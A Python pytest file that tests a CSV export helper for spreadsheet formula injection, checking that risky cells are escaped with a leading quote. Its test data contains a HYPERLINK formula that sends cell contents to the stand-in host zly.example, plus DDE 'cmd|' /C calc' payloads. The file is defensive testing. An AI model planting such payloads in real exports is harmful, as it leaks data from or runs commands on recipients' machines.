"""CSV files for clerks: what a payer writes never becomes a spreadsheet formula."""
from __future__ import annotations

import csv
import io

import pytest

from platforma.core.csvfile import csv_text, safe_cell


@pytest.mark.parametrize("value, written", [
    ('=HYPERLINK("http://zly.example/?x="&A1;"kliknij")', '\'=HYPERLINK("http://zly.example/?x="&A1;"kliknij")'),
    ("+48 600 100 200", "'+48 600 100 200"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("-12.50", "-12.50"),
    ("-12,50", "-12,50"),
    ("za śmieci = 20 zł", "za śmieci = 20 zł"),
    (42, 42),
])
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(value, written):
    assert safe_cell(value) == written


def test_the_file_has_a_bom_semicolons_and_crlf_and_reads_back():
    text = csv_text(["tytul", "kwota"], [['=1+1; "x"', "20.00"], ["zwrot; ąę", "-1.00"]])
    assert text.startswith("\ufefftytul;kwota\r\n")
    assert list(csv.reader(io.StringIO(text[1:]), delimiter=";")) == [
        ["tytul", "kwota"], ["'=1+1; \"x\"", "20.00"], ["zwrot; ąę", "-1.00"]]
    assert not csv_text(["a"], [], bom=False).startswith("\ufeff")
